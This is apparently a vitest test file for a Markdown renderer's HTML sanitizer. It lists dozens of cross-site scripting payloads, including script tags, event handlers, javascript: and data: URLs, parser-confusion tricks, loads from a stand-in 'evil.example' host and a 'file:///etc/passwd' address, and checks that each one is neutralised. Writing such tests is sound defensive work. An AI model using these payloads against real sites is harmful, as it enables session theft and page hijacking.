import { describe, expect, test } from 'vitest';
import { elements, imbalanceOf, render, renderPart } from './testing/rendered.ts';

const FORBIDDEN =
  /^(?:script|style|iframe|object|embed|form|input|textarea|select|svg|link|meta|base|template)$/;

describe('nothing an author writes runs', () => {
  test.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</script>',
    '中文<script>\n\nalert(1)\n\n</script>',
    '<img src=x onerror=alert(1)>',
    '<img src="x.png" OnLoad="alert(1)" style="position:fixed">',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><input type=submit><button>go</button></form>',
    '<textarea><img src=x onerror=alert(1)></textarea>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<template><script>alert(1)</script></template>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="//evil.example">',
    '<link rel=stylesheet href="//evil.example">',
    '<style>@import "//evil.example"</style>',
    '<p style="background:url(javascript:alert(1))">中文</p>',
    '<details open ontoggle=alert(1)><summary>x</summary></details>',
    '<video src="x.mp4" onplay="alert(1)" autoplay poster="javascript:alert(1)"></video>',
    '<a href="x" onclick="alert(1)">x</a>',
    '<a href=x/onmouseover=alert(1)>x</a>',
    '<div title="\n\n<script>alert(1)</script>\n\n">',
    "<div title='\n\n*强调* [a](b \"c\")\n\n' onclick='alert(1)'>",
    '<div x"a=" onclick=alert(1) b>中文</div>',
    '<!--><script>alert(1)</script>-->',
    '<!-- a --!><img src=x onerror=alert(1)> -->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<?php echo "<script>alert(1)</script>" ?>',
    '```html\n<script>alert(1)</script>\n```',
    '```"><script>alert(1)</script>\nx\n```',
    '```js title="\\"><script>alert(1)</script>"\nx\n```',
    '`<script>alert(1)</script>`',
    '![<script>alert(1)</script>](x.png "<script>alert(1)</script>")',
    '[^<script>]: <script>alert(1)</script>\n\nx[^<script>]',
    '## <script>alert(1)</script> {#"><script>alert(1)</script>}',
    '| <script>alert(1)</script> |\n|-|\n| <img src=x onerror=alert(1)> |',
    '$\\href{javascript:alert(1)}{x}$ $\\htmlData{x=y}{z}$ $\\text{<script>alert(1)</script>}$',
    'Term\n: <script>alert(1)</script>',
    ':::aside\n<script>alert(1)</script>\n:::',
    '> [!NOTE] <script>alert(1)</script>\n> <script>alert(1)</script>',
    '&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;alert(1)&#60;/script&#62;',
    '<kbd>&lt;script&gt;</kbd> <code> < img src=x onerror=alert(1)></code>',
    '# a\n\n<em own="&#64976;" class="copy" role="x">x</em> <div title="&#xfdd1;0&#xFDD2;">y</div>',
    '# a\n\n<div OWN="&#xfdd0" class="copy" title="&#64977 0&#64978">&#64977;0&#64978; y</div>',
    '![&#64977;0&#64978;](a.png "&#64977;0&#64978;") [&#64977;0&#64978;](/a "&#64977;0&#64978;")',
    '\ufdd00\ufdd1<em own="\ufdd0" class="copy">x</em>&#64976;0&#64977;',
  ])('%j', async (source) => {
    const html = await render(source);
    expect(imbalanceOf(html)).toBe('');
    for (const { name, attribs } of elements(html)) {
      expect(name).not.toMatch(FORBIDDEN);
      for (const [key, value] of Object.entries(attribs)) {
        expect(key).not.toMatch(/^(?:on|style$|srcdoc$|poster$|autoplay$|own$)/);
        if (key === 'href' || key === 'src') expect(value).not.toMatch(/^\s*(?:javascript|data|vbscript):/i);
      }
    }
    expect(html).not.toMatch(/[\ufdd0-\ufdef]/);
  });
});

describe('an author’s tag cannot pass for one of ours', () => {
  test.each([
    '<em own="\ufdd0" class="x">强</em>',
    '<em own="&#64976;" class="x">强</em>',
    '<em OWN="&#xFDD0" class="x" role="note">强</em>',
    '<div own="&#xfdd0;" class="x">\n\n强\n\n</div>',
    '<div title=\'\n\n<em class="x" own="&#64976;">强</em>\n\n\'>',
  ])('%j', async (source) => {
    const all = elements(await render(source));
    expect(all.filter(({ attribs }) => attribs['class'] === 'x' || attribs['role'] === 'note')).toEqual([]);
  });

  test.each(['\ufdd10\ufdd2', '&#64977;0&#64978;', '&#xfdd1;0&#xFDD2;', '&#64977 0&#64978'])(
    'and cannot repeat what was set aside: %j',
    async (mark) => {
      const source = `# 题\n\n<p title="${mark}">${mark}</p>\n\n${mark} ![${mark}](a.png "${mark}") \`${mark}\``;
      expect(elements(await render(source), 'a')).toHaveLength(1);
    },
  );
});

describe('addresses that would run something are no addresses', () => {
  test.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java\tscript:alert(1)',
    '&#106;avascript:alert(1)',
    '&#x6A;&#x61;vascript&colon;alert(1)',
    '&Tab;javascript:alert(1)',
    '\u0001javascript:alert(1)',
    '\u200bjavascript:alert(1)',
    'vbscript:x',
    'data:text/html,x',
    'DATA:text/html;base64,eA==',
    'blob:https://example.com/x',
    'file:///etc/passwd',
    'inkloop:posts/a',
    'feed:javascript:alert(1)',
  ])('%j', async (address) => {
    const sources = [
      `[文字](<${address}>)`,
      `[文字][r]\n\n[r]: <${address}>`,
      `<a href="${address}">文字</a>`,
      `![文字](<${address}>)`,
      `<img src="${address}" alt="文字">`,
      `<iframe src="${address}"></iframe>文字`,
      `<video src="${address}"></video>文字`,
      `<blockquote cite="${address}">文字</blockquote>`,
    ];
    for (const source of sources) {
      const html = await renderPart(source);
      expect(html).toContain('文字');
      const values = elements(html).flatMap(({ attribs }) => [
        attribs['href'],
        attribs['src'],
        attribs['cite'],
      ]);
      expect(values.filter((value) => value !== undefined)).toEqual([]);
    }
  });
});

describe('ids and names of an author stay out of the page’s way', () => {
  test.each([
    ['<a id="x"></a>\n\n## 标题', ['x', '标题']],
    ['<a name="x"></a>\n\n## Title', ['x', 'title']],
    ['<a id="title"></a>\n\n## Title', ['title', 'title-1']],
    ['<span id="x">a</span> <span id="x">b</span>', ['x']],
    ['<p id="comments">a</p>', []],
    ['<p id="fn-1">a</p>', []],
    ['<p id="main">a</p>', []],
    ['<p id="a b">a</p>', []],
    ['<p id="">a</p>', []],
    ['<p name="cookie">a</p>', []],
    ['## Comments', ['section-comments']],
    ['## Comment\n\n## Comment\n\n## fn\n\n## fn', ['comment', 'section-comment', 'fn', 'section-fn']],
    ['## 评论 {#comments}', ['评论']],
  ])('%j', async (source, ids) => {
    const all = elements(await render(source));
    expect(all.flatMap(({ attribs }) => attribs['id'] ?? [])).toEqual(ids);
    expect(all.some(({ attribs }) => 'name' in attribs)).toBe(false);
  });
});

describe('HTML that has a place in an article keeps it', () => {
  test.each([
    ['H<sub>2</sub>O 与 x<sup>2</sup>', 'H<sub>2</sub>O 与 x<sup>2</sup>'],
    ['<kbd>Ctrl</kbd> + <kbd>C</kbd>', '<kbd>Ctrl</kbd> + <kbd>C</kbd>'],
    ['<ruby>汉<rt>hàn</rt></ruby>', '<ruby>汉<rt>hàn</rt></ruby>'],
    ['<mark>标记</mark>', '<mark>标记</mark>'],
    [
      '<abbr title="Pod Lifecycle Event Generator">PLEG</abbr>',
      '<abbr title="Pod Lifecycle Event Generator">PLEG</abbr>',
    ],
    ['<span lang="ja">日本語</span>', '<span lang="ja">日本語</span>'],
    ['a<br/>b', 'a<br>b'],
    ['<tt>old</tt> <strike>x</strike>', '<code>old</code> <s>x</s>'],
    ['<font color="red">红</font>', '红'],
  ])('%s', async (source, html) => {
    expect(await renderPart(source)).toBe(`<p>${html}</p>`);
  });

  test('details hold Markdown', async () => {
    const html = await renderPart('<details>\n<summary>更多</summary>\n\n**粗体：**文字\n\n</details>');
    expect(html.replace(/\n/g, '')).toBe(
      '<details><summary>更多</summary><p><strong>粗体：</strong>文字</p></details>',
    );
  });

  test('a table keeps its spans', async () => {
    const html = await renderPart('<table><tr><td colspan="2" align="center" width="9">格</td></tr></table>');
    expect(html).toBe(
      '<section class="scroll-x" tabindex="0" aria-label="Table 1"><table><tr><td colspan="2">格</td></tr></table></section>',
    );
  });

  test.each([
    ['<div><b>open', 'the rest 中文'],
    ['</div></p></blockquote>', 'the rest 中文'],
    ['<div title="', 'the rest 中文'],
  ])('what is left open ends by itself: %j', async (start, rest) => {
    const html = await render(`${start}\n\n${rest}\n\n- a\n`);
    expect(imbalanceOf(html)).toBe('');
    expect(html).toContain(rest);
  });

  test('a frame becomes a link', async () => {
    const frame =
      '<iframe width="560" src="https://www.example.com/embed/x" title="演示" allowfullscreen></iframe>';
    expect(await renderPart(frame)).toBe('<p><a href="https://www.example.com/embed/x">演示</a></p>');
    expect(await renderPart('<iframe src="https://example.com/x"></iframe>', { lang: 'zh' })).toBe(
      '<p><a href="https://example.com/x">嵌入的页面：example.com</a></p>',
    );
  });
});
